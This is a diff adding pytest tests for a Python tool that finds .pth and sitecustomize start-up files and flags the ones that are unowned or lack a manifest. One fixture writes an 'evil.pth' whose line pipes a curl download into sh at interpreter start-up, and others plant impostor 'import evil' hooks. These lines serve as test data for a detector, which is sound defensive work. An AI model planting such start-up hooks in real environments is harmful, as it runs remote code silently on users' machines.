@@ -1,0 +1,152 @@
+"""Startup code: finding ``.pth``/``sitecustomize`` files and judging them (ISP307/ISP308)."""
+
+from __future__ import annotations
+
+from collections.abc import Set as AbstractSet
+from pathlib import Path
+
+import pytest
+from fakedist import install
+
+from hatch_importspy.compare.startup import (
+    ALLOWED_STARTUP,
+    AllowedStartup,
+    shown_line,
+    startup_findings,
+)
+from hatch_importspy.findings import Finding
+from hatch_importspy.installed import (
+    StartupFile,
+    StartupKind,
+    build_ownership,
+    find_distributions,
+    find_startup_files,
+    read_record,
+)
+
+
+def judge(site: Path, with_manifest: AbstractSet[str] = frozenset()) -> list[Finding]:
+    """Run the reader, the ownership index and the comparison over one site directory."""
+    distributions = find_distributions([site])
+    ownership = build_ownership((d, read_record(d)) for d in distributions)
+    files = find_startup_files(site)
+    return startup_findings(
+        files, {f.path: ownership.owners_of(f.path) for f in files}, with_manifest
+    )
+
+
+def test_reader_finds_pth_lines_and_customize_modules(tmp_path: Path) -> None:
+    (tmp_path / "paths.pth").write_text("# comment\n/some/dir\n\n  import indented\n")
+    (tmp_path / "run.pth").write_bytes(b"\xef\xbb\xbfimport os\nimport\tsys; x()\r\nimportant\n")
+    (tmp_path / "sitecustomize.py").write_text("print('hi')\n")
+    (tmp_path / "usercustomize").mkdir()
+    (tmp_path / "usercustomize" / "__init__.py").write_text("")
+    (tmp_path / "sitecustomize-notes.txt").write_text("")
+    (tmp_path / "namespace").mkdir()
+    assert find_startup_files(tmp_path) == (
+        StartupFile(tmp_path, "paths.pth", StartupKind.PTH, ()),
+        StartupFile(tmp_path, "run.pth", StartupKind.PTH, ("import os", "import\tsys; x()")),
+        StartupFile(tmp_path, "sitecustomize.py", StartupKind.SITECUSTOMIZE),
+        StartupFile(tmp_path, "usercustomize/__init__.py", StartupKind.USERCUSTOMIZE),
+    )
+
+
+def test_namespace_sitecustomize_package_runs_nothing(tmp_path: Path) -> None:
+    (tmp_path / "sitecustomize").mkdir()
+    assert find_startup_files(tmp_path) == ()
+
+
+def test_unowned_startup_code_is_an_error(tmp_path: Path) -> None:
+    (tmp_path / "evil.pth").write_text("import os; os.system('curl x | sh')\n")
+    (tmp_path / "harmless.pth").write_text("/extra/path\n")
+    (tmp_path / "sitecustomize.py").write_text("")
+    assert judge(tmp_path) == [
+        Finding(
+            "ISP307",
+            "",
+            f"evil.pth (1 executable line) in {tmp_path} runs at start-up and is owned by no "
+            "installed distribution",
+            file="evil.pth",
+            found="import os; os.system('curl x | sh')",
+        ),
+        Finding(
+            "ISP307",
+            "",
+            f"sitecustomize module sitecustomize.py in {tmp_path} runs at start-up and is owned "
+            "by no installed distribution",
+            file="sitecustomize.py",
+            found="sitecustomize",
+        ),
+    ]
+
+
+def test_owned_by_a_distribution_without_manifest_is_a_warning(tmp_path: Path) -> None:
+    install(tmp_path, "hooky", "1.0", {"hooky.pth": b"import hooky_boot\n", "hooky_boot.py": b""})
+    assert judge(tmp_path) == [
+        Finding(
+            "ISP308",
+            "hooky",
+            "hooky.pth (1 executable line) runs at start-up and its distribution hooky carries "
+            "no manifest",
+            file="hooky.pth",
+            found="import hooky_boot",
+        )
+    ]
+
+
+def test_owned_by_a_distribution_with_a_manifest_is_its_own_business(tmp_path: Path) -> None:
+    install(tmp_path, "Hooky", "1.0", {"hooky.pth": b"import hooky_boot\n"})
+    assert judge(tmp_path, with_manifest={"hooky"}) == []
+
+
+def test_allow_list_silences_known_files_with_the_right_owner(tmp_path: Path) -> None:
+    precedence = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = 1\n"
+    install(tmp_path, "setuptools", "69.0", {"distutils-precedence.pth": precedence})
+    install(
+        tmp_path,
+        "mypkg",
+        "0.1",
+        {"__editable__.mypkg-0.1.pth": b"import __editable___mypkg_0_1_finder; x.install()\n"},
+    )
+    install(tmp_path, "other", "0.1", {"_other.pth": b"import _editable_impl_other\n"})
+    install(tmp_path, "zope.interface", "6.0", {"zope.interface-6.0-nspkg.pth": b"import sys\n"})
+    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv\n")
+    assert judge(tmp_path) == []
+
+
+def test_allow_list_is_not_fooled_by_name_alone(tmp_path: Path) -> None:
+    install(tmp_path, "impostor", "1.0", {"distutils-precedence.pth": b"import evil\n"})
+    (tmp_path / "_virtualenv.pth").write_text("import _virtualenv; import evil\n")
+    install(tmp_path, "sneaky", "1.0", {"_sneaky.pth": b"import _editable_impl_x; import evil\n"})
+    assert [(f.code, f.file) for f in judge(tmp_path)] == [
+        ("ISP308", "_sneaky.pth"),
+        ("ISP307", "_virtualenv.pth"),
+        ("ISP308", "distutils-precedence.pth"),
+    ]
+
+
+def test_every_allow_list_entry_has_a_reason() -> None:
+    for entry in ALLOWED_STARTUP:
+        assert entry.reason.strip(), entry.pattern
+        assert entry.pattern.endswith(".pth")
+
+
+def test_custom_allow_list(tmp_path: Path) -> None:
+    file = StartupFile(tmp_path, "corp.pth", StartupKind.PTH, ("import corp_audit",))
+    allowed = (
+        AllowedStartup("corp.pth", "our audit hook", lines=(r"import corp_audit",), unowned=True),
+    )
+    assert startup_findings([file], {}, set(), allowed) == []
+    assert [f.code for f in startup_findings([file], {}, set(), ())] == ["ISP307"]
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ("import os", "import os"),
+        ("import x\x1b[31m; y()", "import x\\x1b[31m; y()"),
+        ("import " + "a" * 200, "import " + "a" * 110 + "..."),
+    ],
+)
+def test_shown_lines_are_escaped_and_short(line: str, shown: str) -> None:
+    assert shown_line(line) == shown
